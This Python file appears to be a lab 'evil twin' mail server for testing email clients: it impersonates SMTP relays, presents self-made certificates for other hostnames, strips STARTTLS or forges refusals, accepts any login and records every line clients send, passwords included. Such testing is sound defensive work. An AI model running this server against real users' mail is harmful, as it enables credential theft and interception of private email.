"""The evil twin's servers: they take everything that they are given, and keep it.

On 25, 465 and 587 a relay, that asks for passwords: with a certificate that everybody trusts for
its own name, relay.evil.example.org, and one that it made itself for any other. On 11025 and 11587
it is what the router puts in the place of others' 25 and 587, after the switch evil-manner:

strip     STARTTLS is not offered, a login in the clear is
denied    every command after EHLO is answered with a forged refusal
greeting  it refuses before anything was said
"""

import asyncio
import ssl
import subprocess

import record

OWN_NAME = "relay.evil.example.org"
SELF_MADE = "/tmp/self-made"
DENIED = b"550 5.7.1 relaying denied\r\n"


def manner():
    with open("/lab/switches/evil-manner", encoding="ascii") as file:
        return file.read().strip()


class Conversation:
    def __init__(self, client_in, client_out, context, is_relay):
        self.client_in, self.client_out = client_in, client_out
        self.context, self.is_relay = context, is_relay
        self.inside_tls = False
        self.manner = "relay" if is_relay else manner()

    async def next_line(self):
        line = await self.client_in.readline()
        record.note(line)
        return line

    async def run(self):
        name = b"mail.hotel.example.net" if self.is_relay else b"smtp.proseware.com"
        if self.manner == "greeting":
            self.client_out.write(DENIED)
        else:
            self.client_out.write(b"220 " + name + b" ESMTP ready\r\n")
        while line := await self.next_line():
            await self.answer(line.split(None, 1)[0].upper() if line.strip() else b"")
            await self.client_out.drain()

    async def answer(self, verb):
        offers = b"250-PIPELINING\r\n250-AUTH PLAIN LOGIN\r\n250 8BITMIME\r\n"
        if verb == b"EHLO":
            if self.is_relay and not self.inside_tls or self.manner == "denied":
                offers = b"250-STARTTLS\r\n" + offers
            self.client_out.write(b"250-hello\r\n" + offers)
        elif verb == b"QUIT":
            self.client_out.write(b"221 bye\r\n")
        elif self.manner in ("denied", "greeting"):
            self.client_out.write(DENIED)
        elif verb == b"STARTTLS" and self.is_relay:
            self.client_out.write(b"220 go ahead\r\n")
            await self.client_out.start_tls(self.context)
            self.inside_tls = True
        elif verb == b"AUTH":
            self.client_out.write(b"235 2.7.0 thank you\r\n")
        elif verb == b"DATA":
            self.client_out.write(b"354 all of it\r\n")
            while (line := await self.next_line()) not in (b".\r\n", b""):
                pass
            self.client_out.write(b"250 2.0.0 thank you\r\n")
        else:
            self.client_out.write(b"250 2.0.0 OK\r\n")


def make_context():
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                    "ec_paramgen_curve:P-256", "-nodes", "-days", "30",
                    "-subj", "/CN=mail.hotel.example.net", "-addext",
                    "subjectAltName=DNS:mail.hotel.example.net,DNS:smtp.proseware.com",
                    "-keyout", f"{SELF_MADE}.key", "-out", f"{SELF_MADE}.pem"],
                   check=True, capture_output=True)
    trusted, self_made = (ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER) for _ in range(2))
    trusted.load_cert_chain("/lab/tls/server.pem", "/lab/tls/server.key")
    self_made.load_cert_chain(f"{SELF_MADE}.pem", f"{SELF_MADE}.key")

    def choose(connection, name, _context):
        connection.context = trusted if name == OWN_NAME else self_made
    self_made.sni_callback = choose
    return self_made


async def main():
    context = make_context()

    async def converse(client_in, client_out, is_relay):
        try:
            await Conversation(client_in, client_out, context, is_relay).run()
        except (OSError, ValueError) as error:
            print(f"conversation ended: {error}", flush=True)
        finally:
            client_out.close()

    servers = [
        await asyncio.start_server(lambda i, o, relay=relay: converse(i, o, relay), None, port,
                                   ssl=context if port == 465 else None)
        for port, relay in ((25, True), (465, True), (587, True), (11025, False), (11587, False))]
    await asyncio.gather(*(server.serve_forever() for server in servers))


asyncio.run(main())
